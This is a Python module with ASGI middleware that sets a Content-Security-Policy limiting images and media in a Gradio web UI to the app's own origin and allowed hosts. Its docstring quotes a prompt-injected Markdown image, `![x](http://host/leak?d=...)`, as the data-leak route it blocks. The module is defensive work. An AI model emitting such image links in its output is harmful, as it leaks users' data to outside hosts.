"""A Content-Security-Policy for the web UI: images load from this app alone.

``sanitize.inert_html`` turns images in outside text (answers, reasoning,
documents) into links, but that relies on agreeing with the page's Markdown
parser about what is code. This header makes the browser itself refuse any
image or media from another origin, whatever slipped through: a prompt-injected
``![x](http://host/leak?d=...)`` is never fetched. Hosts in
``--allowed-image-hosts`` are added (``host`` for any port, ``host:port`` for
one). Only ``img-src`` and ``media-src`` are set: scripts, styles and fonts
stay as Gradio serves them.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable, MutableMapping, Sequence
from typing import Any

Message = MutableMapping[str, Any]
Receive = Callable[[], Awaitable[Message]]
Send = Callable[[Message], Awaitable[None]]
ASGIApp = Callable[[MutableMapping[str, Any], Receive, Send], Awaitable[None]]


def image_policy(allowed_hosts: Sequence[str] = ()) -> str:
    """The header's value for these allowed image hosts."""
    sources = ["'self'", "data:", "blob:"]  # Gradio's own icons; outside data: images are text
    sources.extend(_source(host) for host in allowed_hosts)
    listed = " ".join(sources)
    return f"img-src {listed}; media-src {listed}"


def _source(host: str) -> str:
    """``host:port`` as it is; a bare host (or ``[v6]``) on any port."""
    if host.startswith("["):
        return host if "]:" in host else f"{host}:*"
    name, sep, port = host.rpartition(":")
    return host if sep and name and port.isdigit() else f"{host}:*"


class ImagePolicy:
    """ASGI middleware: every HTTP response carries the image policy."""

    def __init__(self, app: ASGIApp, allowed_hosts: Sequence[str] = ()) -> None:
        self.app = app
        self.header = (b"content-security-policy", image_policy(allowed_hosts).encode())

    async def __call__(self, scope: MutableMapping[str, Any], receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def with_policy(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = [pair for pair in message.get("headers", [])
                           if pair[0].lower() != self.header[0]]
                message = {**message, "headers": [*headers, self.header]}
            await send(message)

        await self.app(scope, receive, with_policy)
